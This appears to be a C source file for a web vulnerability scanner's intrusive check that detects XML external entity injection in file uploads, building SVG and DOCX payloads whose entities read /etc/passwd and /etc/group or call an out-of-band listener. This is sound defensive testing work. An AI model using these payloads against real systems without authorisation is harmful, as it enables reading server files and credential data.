/* Active, intrusive: an XML parser behind an upload resolves external entities (CWE-611): in a
 * picture (SVG), or in the document inside of an office file, which is a ZIP archive. In-band: a
 * file that every system has stands in the answer, and another one when it is asked for. Out of
 * band: the parser asks our listener. Few files are left behind, with names of their own. */
#include <zlib.h>

#include "base/limits.h"
#include "scan/checks/active_private.h"
#include "scan/oob.h"

#define ENTITY "<!ENTITY q SYSTEM \"{0}\">"

static const char svg[] = "<?xml version=\"1.0\"?><!DOCTYPE svg [" ENTITY "]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"90\" height=\"20\">"
			  "<text x=\"1\" y=\"15\">&q;</text></svg>";
static const char docx[] = "<?xml version=\"1.0\"?><!DOCTYPE w [" ENTITY "]><w:document "
			   "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&q;</w:t></w:r></w:p>"
			   "</w:body></w:document>";
static const char types[] = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default "
			    "Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/"
			    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

/* ---- a ZIP archive, nothing compressed ---- */

static void put_le(struct buf *b, uint32_t v, size_t bytes)
{
	for (size_t i = 0; i < bytes; i++)
		buf_char(b, (char)(v >> (8 * i)));
}

static void put_entry(struct buf *b, bool central, struct str name, struct str data, size_t at)
{
	put_le(b, central ? 0x02014b50u : 0x04034b50u, 4);
	if (central)
		put_le(b, 20, 2);
	put_le(b, 20, 2); /* version; no flags, stored, 1 January 1980 */
	put_le(b, 0, 2);
	put_le(b, 0, 2);
	put_le(b, 0, 2);
	put_le(b, 0x21, 2);
	put_le(b, (uint32_t)crc32(0, (const unsigned char *)data.ptr, (uInt)data.len), 4);
	put_le(b, (uint32_t)data.len, 4);
	put_le(b, (uint32_t)data.len, 4);
	put_le(b, (uint32_t)name.len, 2);
	put_le(b, 0, 2);
	if (central) {
		put_le(b, 0, 2);
		put_le(b, 0, 2);
		put_le(b, 0, 2);
		put_le(b, 0, 4);
		put_le(b, (uint32_t)at, 4);
	}
	buf_str(b, name);
	if (!central)
		buf_str(b, data);
}

static struct str zipped(struct probe *p, struct str document)
{
	struct str names[] = { STR("[Content_Types].xml"), STR("word/document.xml") }, parts[] = { str_c(types), document };
	size_t at[2], start;
	struct buf b;
	buf_init(&b, 64 * KIB);
	for (size_t i = 0; i < 2; i++) {
		at[i] = b.len;
		put_entry(&b, false, names[i], parts[i], 0);
	}
	start = b.len;
	for (size_t i = 0; i < 2; i++)
		put_entry(&b, true, names[i], parts[i], at[i]);
	size_t size = b.len - start;
	put_le(&b, 0x06054b50u, 4);
	put_le(&b, 0, 4);
	put_le(&b, 2, 2);
	put_le(&b, 2, 2);
	put_le(&b, (uint32_t)size, 4);
	put_le(&b, (uint32_t)start, 4);
	put_le(&b, 0, 2);
	struct str r = arena_str(probe_arena(p), buf_view(&b));
	buf_free(&b);
	return r;
}

/* ---- the form with our file ---- */

struct kind {
	const char *extension, *type, *form;
	bool zip;
};
static const struct kind kinds[] = {
	{ "svg", "image/svg+xml", svg, false },
	{ "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx, true },
};

static int upload(struct probe *p, const struct scan_exchange *x, const struct kind *k, struct str where, const struct scan_exchange **ret)
{
	struct str type = scan_header_get(&x->request_headers, "content-type"), boundary = active_boundary(type), rest = x->request_body;
	struct str data = active_fill(p, k->form, &where);
	struct active_part m;
	struct buf b;
	bool put = false;
	if (k->zip)
		data = zipped(p, data);
	buf_init(&b, 1 * MIB);
	while (active_next_part(boundary, &rest, &m)) {
		buf_printf(&b, "--%.*s\r\nContent-Disposition: form-data; name=\"%.*s\"", STR_ARG(boundary), STR_ARG(m.name));
		if (m.file.ptr && !put) {
			buf_printf(&b, "; filename=\"%.*s.%s\"\r\nContent-Type: %s\r\n\r\n", STR_ARG(probe_word(p, 8)), k->extension, k->type);
			buf_str(&b, data);
			put = true;
		} else {
			buf_c(&b, m.file.ptr ? "; filename=\"\"\r\n\r\n" : "\r\n\r\n");
			buf_str(&b, m.file.ptr ? STR("") : m.value);
		}
		buf_c(&b, "\r\n");
	}
	buf_printf(&b, "--%.*s--\r\n", STR_ARG(boundary));
	struct str body = arena_str(probe_arena(p), buf_view(&b));
	buf_free(&b);
	if (!put)
		return -1;
	return probe_send(p, &(struct scan_mutation){ .body_set = true, .body = body, .content_type = type, .fresh = true, .follow = 2 }, ret);
}

static bool try_file(struct probe *p, const struct scan_exchange *x, const struct kind *k)
{
	const struct scan_exchange *a, *b;
	if (upload(p, x, k, STR("file:///etc/passwd"), &a) < 0)
		return false;
	struct str proof = active_find(a, STR("root:x:0:0:"));
	if (!proof.ptr || active_find(x, STR("root:x:0:")).ptr || upload(p, x, k, STR("file:///etc/group"), &b) < 0 ||
	    !active_find(b, STR("root:x:0:")).ptr || str_eq(a->body, b->body))
		return false;
	probe_report(p, &(struct scan_report){
				.exchange = a, .proof = proof, .confidence_set = true, .confidence = CONFIDENCE_CERTAIN,
				.detail_zh = probe_printf(p, "上传的 %s 文件中的外部实体被解析，服务器上两个不同文件的内容先后出现在响应里。", k->extension),
				.detail_en = probe_printf(p, "External entities in an uploaded %s file are resolved: two different files of the server "
							     "stood in the answers.", k->extension) });
	return true;
}

static void probe_upload(struct probe *p, const struct scan_exchange *x)
{
	struct str type = scan_header_get(&x->request_headers, "content-type");
	if (!str_istarts(type, STR("multipart/")) || !str_has(x->request_body, STR("filename=\"")))
		return;
	for (size_t i = 0; i < ARRAY_SIZE(kinds); i++) {
		struct scan_oob_name name;
		const struct scan_exchange *a;
		if (try_file(p, x, &kinds[i]))
			return;
		if (!probe_oob_ready(p) || !probe_oob_host(p, &name) || upload(p, x, &kinds[i], name.url, &a) < 0)
			continue;
		probe_oob_expect(p, name.token, SCAN_OOB_ANY,
				 &(struct scan_report){ .exchange = a, .proof = name.url,
							.detail_zh = STR("上传的文件被 XML 解析器读取，并去取了外部实体所指的地址。"),
							.detail_en = STR("An uploaded file was read by an XML parser that went to fetch what an external entity names.") });
	}
}

const struct scan_check check_xxe_upload = {
	.id = "xxe-upload",
	.title_zh = "上传文件中的 XML 外部实体",
	.title_en = "XML external entities in uploads",
	.severity = SEVERITY_HIGH,
	.cwe = 611,
	.owasp = "A05:2021",
	.modes = SCAN_STANDARD_UP,
	.flags = SCAN_INTRUSIVE,
	.place = PLACE_PAGE,
	.on_request = probe_upload,
};
